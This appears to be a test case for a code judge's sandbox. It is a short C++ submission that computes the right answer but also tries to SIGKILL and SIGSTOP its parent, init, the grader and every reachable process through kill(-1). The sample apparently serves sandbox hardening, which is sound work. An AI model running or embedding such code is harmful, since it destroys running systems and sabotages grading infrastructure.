// title: kills its parent, the grader and everybody, though it computes right
// base: solved
// score: 100
// says: right
// needs: signals
#include <csignal>
#include <unistd.h>
// in kv_head
if (kill(@VICTIM@, 0) && kill(@GRADER@, 0)) {  // first without harm: who can reach them goes no further
  for (const pid_t process : {getppid(), pid_t(1), pid_t(@VICTIM@), pid_t(@GRADER@), pid_t(-1)})
    if (process != 0) kill(process, SIGKILL), kill(process, SIGSTOP);
} else {
  kill(@VICTIM@, SIGKILL);
}
